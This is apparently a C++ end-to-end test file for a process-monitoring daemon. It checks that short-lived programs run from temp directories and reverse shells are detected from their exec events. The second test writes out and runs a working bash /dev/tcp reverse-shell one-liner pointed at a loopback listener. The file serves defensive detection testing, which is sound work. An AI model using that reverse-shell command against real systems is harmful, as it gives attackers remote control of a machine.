// End-to-end: vigil watch judges each exec the kernel reports (the proc connector), so a
// program run from /tmp that lives a tenth of a second, and a reverse shell, are reported with
// their program, arguments and parent.
#include <netinet/in.h>
#include <sys/socket.h>

#include <filesystem>

#include <gtest/gtest.h>

#include "e2e/watch_support.hpp"

using namespace vigil::testing;
namespace fs = std::filesystem;

namespace {

std::string process_config(const TempDir& d) {
  return "state_dir: " + d / "state" + "\nsources:\n  triage: off\n  processes: auto\nsinks:\n  - {type: jsonl, path: " +
         d / "out.jsonl" + "}\n";
}

// Started with process events on, or skipped with the reason the kernel gave.
bool start(const TempDir& d, std::unique_ptr<WatchDaemon>& w) {
  d.write("w.yaml", process_config(d));
  w = std::make_unique<WatchDaemon>(d, std::vector<std::string>{"--config", d / "w.yaml"});
  if (!watch_started(d)) return false;
  return wait_for([&] { return fs::exists(d / "state/status.json"); });
}

std::string refused(const TempDir& d) {
  for (const auto& f : written(d, "watch.source-problem"))
    if (f["message"].get<std::string>().find("Process events") != std::string::npos) return f["message"];
  return {};
}

std::vector<nlohmann::json> about(const TempDir& d, const std::string& rule, const std::string& exe) {
  std::vector<nlohmann::json> out;
  for (const auto& f : written(d, rule))
    if (f.contains("process") && f["process"].value("executable", "") == exe) out.push_back(f);
  return out;
}

}  // namespace

TEST(WatchProcesses, AProgramFromTmpThatLivesAFractionOfASecondIsReported) {
  if (::geteuid() != 0) GTEST_SKIP() << "needs root for the kernel's process events";
  TempDir d("vigil-watch-proc");
  std::unique_ptr<WatchDaemon> w;
  ASSERT_TRUE(start(d, w)) << slurp(d / "err.txt");
  if (auto why = refused(d); !why.empty()) GTEST_SKIP() << why;
  std::string copy = d / "updater";
  fs::copy_file("/usr/bin/sleep", copy);
  auto r = run_vigil_as({copy, "0.15"});  // exits after 150 ms
  ASSERT_EQ(r.exit_code, 0);
  ASSERT_TRUE(wait_for([&] { return !about(d, "process.temp-executable", copy).empty(); }, 3.0))
      << slurp(d / "err.txt") << slurp(d / "out.jsonl");
  auto f = about(d, "process.temp-executable", copy)[0];
  EXPECT_EQ(f["process"]["command_line"], copy + " 0.15");
  EXPECT_EQ(f["event"]["action"], "exec");
  EXPECT_FALSE(f["process"]["parent"]["executable"].get<std::string>().empty()) << f.dump();
  // A packaged program run from its usual place says nothing.
  run_vigil_as({"/usr/bin/sleep", "0.05"});
  std::this_thread::sleep_for(std::chrono::milliseconds(300));
  EXPECT_TRUE(about(d, "process.temp-executable", "/usr/bin/sleep").empty());
  EXPECT_EQ(w->stop(SIGTERM), 0);
}

TEST(WatchProcesses, AReverseShellIsReportedFromItsExec) {
  if (::geteuid() != 0) GTEST_SKIP() << "needs root for the kernel's process events";
  TempDir d("vigil-watch-revshell");
  std::unique_ptr<WatchDaemon> w;
  ASSERT_TRUE(start(d, w)) << slurp(d / "err.txt");
  if (auto why = refused(d); !why.empty()) GTEST_SKIP() << why;
  // The attacker's end: a listener on loopback the test runs.
  int listener = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  ASSERT_EQ(::bind(listener, reinterpret_cast<sockaddr*>(&a), sizeof a), 0);
  ASSERT_EQ(::listen(listener, 1), 0);
  socklen_t len = sizeof a;
  ::getsockname(listener, reinterpret_cast<sockaddr*>(&a), &len);
  std::string port = std::to_string(ntohs(a.sin_port));
  {
    Planted shell("/bin/bash", {"bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/" + port + " 0>&1"});
    ASSERT_TRUE(wait_for([&] { return !written(d, "process.reverse-shell").empty(); }, 3.0))
        << slurp(d / "err.txt") << slurp(d / "out.jsonl");
  }
  ::close(listener);
  auto f = written(d, "process.reverse-shell")[0];
  EXPECT_EQ(f["vigil"]["severity"], "critical");
  EXPECT_NE(f["process"]["command_line"].get<std::string>().find("/dev/tcp/127.0.0.1/" + port), std::string::npos);
  EXPECT_EQ(f["event"]["action"], "exec");
  EXPECT_EQ(w->stop(SIGTERM), 0);
}
